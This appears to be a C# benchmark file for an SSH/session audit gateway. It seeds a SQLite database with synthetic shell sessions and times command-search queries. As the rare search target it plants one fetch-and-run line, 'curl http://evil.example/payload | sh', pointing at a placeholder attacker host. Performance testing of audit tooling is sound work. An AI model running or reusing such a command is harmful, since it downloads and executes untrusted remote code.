using BenchmarkDotNet.Attributes;
using Fumidai.Gateway.Storage;
using Microsoft.Data.Sqlite;

namespace Fumidai.Bench;

/// <summary><c>sessions search</c> latency over 100,000 indexed sessions (goal &lt; 100 ms).</summary>
[MemoryDiagnoser]
public class CommandSearchBenchmarks
{
    private const int Sessions = 100_000;
    private const int CommandsPerSession = 10;
    private static readonly string[] Words =
        ["ls", "cat", "sudo", "systemctl", "restart", "nginx", "journalctl", "tail", "grep", "vim", "kubectl", "docker", "psql", "df", "top"];

    private string _directory = "";
    private MetadataStore _store = null!;

    [GlobalSetup]
    public async Task SetupAsync()
    {
        _directory = Directory.CreateTempSubdirectory("fumidai-search-bench-").FullName;
        _store = await MetadataStore.OpenAsync(Path.Combine(_directory, "fumidai.db"));
        await using var connection = (SqliteConnection)await _store.OpenConnectionAsync(CancellationToken.None);
        await using var transaction = (SqliteTransaction)await connection.BeginTransactionAsync();
        var random = new Random(7);
        var start = DateTimeOffset.UtcNow.AddDays(-90);
        await using var session = connection.CreateCommand();
        session.Transaction = transaction;
        session.CommandText = """
            INSERT INTO sessions (id, user_name, target, login, kind, source, started, status)
            VALUES ($id, $user, $target, 'root', 'shell', '127.0.0.1', $started, 'closed')
            """;
        var id = session.Parameters.Add("$id", SqliteType.Text);
        var user = session.Parameters.Add("$user", SqliteType.Text);
        var target = session.Parameters.Add("$target", SqliteType.Text);
        var started = session.Parameters.Add("$started", SqliteType.Text);
        await using var command = connection.CreateCommand();
        command.Transaction = transaction;
        command.CommandText = "INSERT INTO session_commands (session_id, seq, offset_ms, command) VALUES ($id, $seq, $offset, $command)";
        var cid = command.Parameters.Add("$id", SqliteType.Text);
        var seq = command.Parameters.Add("$seq", SqliteType.Integer);
        var offset = command.Parameters.Add("$offset", SqliteType.Integer);
        var text = command.Parameters.Add("$command", SqliteType.Text);
        for (int s = 0; s < Sessions; s++)
        {
            id.Value = cid.Value = $"s{s:D6}";
            user.Value = $"user{random.Next(200)}";
            target.Value = $"host{random.Next(500)}";
            started.Value = MetadataStore.Time(start.AddSeconds(s * 77));
            await session.ExecuteNonQueryAsync();
            for (int c = 0; c < CommandsPerSession; c++)
            {
                seq.Value = c;
                offset.Value = c * 1000;
                text.Value = string.Join(' ', Enumerable.Range(0, 3).Select(_ => Words[random.Next(Words.Length)])) + $" /srv/app{random.Next(10_000)}";
                await command.ExecuteNonQueryAsync();
            }
        }
        // One needle, so a search for it is selective like an auditor's would be.
        seq.Value = CommandsPerSession;
        cid.Value = "s050000";
        text.Value = "curl http://evil.example/payload | sh";
        await command.ExecuteNonQueryAsync();
        await transaction.CommitAsync();
    }

    [Benchmark(Description = "rare needle (trigram index)")]
    public Task<int> Needle() => Count("evil.example");

    [Benchmark(Description = "common word, first 1000 hits")]
    public Task<int> Common() => Count("restart nginx");

    [Benchmark(Description = "needle for one user, last 30 days")]
    public async Task<int> Filtered() =>
        (await _store.SearchCommandsAsync("app1234", "user42", DateTimeOffset.UtcNow.AddDays(-30), 1000)).Count;

    private async Task<int> Count(string text) => (await _store.SearchCommandsAsync(text, null, null, 1000)).Count;

    [GlobalCleanup]
    public void Cleanup()
    {
        SqliteConnection.ClearAllPools();
        Directory.Delete(_directory, recursive: true);
    }
}
